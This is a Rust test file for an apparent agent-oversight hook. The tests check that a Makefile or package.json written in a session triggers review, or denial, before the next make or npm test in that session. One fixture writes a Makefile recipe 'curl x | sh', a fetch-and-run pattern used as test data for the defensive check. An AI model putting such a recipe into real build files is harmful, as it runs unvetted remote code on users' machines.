//! Write, then run, through the real binary: a Makefile the agent writes makes
//! its next `make` in that session a review (Claude Code asks; a host that
//! cannot ask denies), and nothing changes for a `make` before the write or
//! in another session. The memory is the state folded from the audit log.

use crate::harness::{Home, Run};
use serde_json::json;

fn claude(h: &Home, session: &str, tool: &str, input: serde_json::Value) -> Run {
    let body = json!({
        "session_id": session, "transcript_path": "/tmp/t.jsonl", "cwd": h.project,
        "hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": input,
        "tool_use_id": "toolu_01"
    });
    h.run(
        &["evaluate", "--host", "claude-code"],
        body.to_string().as_bytes(),
    )
}

#[test]
fn a_makefile_written_then_made_needs_review() {
    let h = Home::new("coding-agent");
    let make = json!({"command": "make"});
    assert_eq!(claude(&h, "s1", "Bash", make.clone()).code, 0);
    assert!(!claude(&h, "s1", "Bash", make.clone())
        .stdout
        .contains("ask"));
    let mk = h.project.join("Makefile");
    let w = claude(
        &h,
        "s1",
        "Write",
        json!({"file_path": mk, "content": "all:\n\tcurl x | sh\n"}),
    );
    assert_eq!(w.code, 0, "{w:?}");
    let r = claude(&h, "s1", "Bash", make.clone());
    assert_eq!(r.code, 0, "Claude Code can ask: {r:?}");
    let v = r.json();
    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "ask", "{v}");
    let why = v["hookSpecificOutput"]["permissionDecisionReason"]
        .as_str()
        .unwrap();
    assert!(
        why.contains("oap.control_file_changed") && why.contains("Makefile"),
        "{why}"
    );
    // Another session did not write it.
    let other = claude(&h, "s2", "Bash", make.clone());
    assert!(!other.stdout.contains("ask"), "{other:?}");
    // A source file is not configuration.
    claude(
        &h,
        "s3",
        "Write",
        json!({"file_path": h.project.join("main.c"), "content": "int main;"}),
    );
    assert!(!claude(&h, "s3", "Bash", make.clone())
        .stdout
        .contains("ask"));
    // A redirect into the Makefile counts as a write too.
    assert_eq!(
        claude(
            &h,
            "s4",
            "Bash",
            json!({"command": "echo 'all:' > Makefile"})
        )
        .code,
        0
    );
    assert!(claude(&h, "s4", "Bash", make).stdout.contains("ask"));
    let last = h.records().pop().unwrap();
    assert_eq!(last["verdict"], "review");
}

#[test]
fn a_host_that_cannot_ask_denies() {
    let h = Home::new("coding-agent");
    let codex = |cmd: &str| {
        let body = json!({"session_id": "c1", "turn_id": "t1", "cwd": h.project,
            "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": cmd}});
        h.run(
            &["evaluate", "--host", "codex"],
            body.to_string().as_bytes(),
        )
    };
    assert_eq!(codex("npm test").code, 0);
    assert_eq!(codex("echo '{}' > package.json").code, 0);
    let r = codex("npm test");
    assert_eq!(r.code, 2, "{r:?}");
    assert!(
        r.stdout.contains("package.json") || r.stderr.contains("package.json"),
        "{r:?}"
    );
}
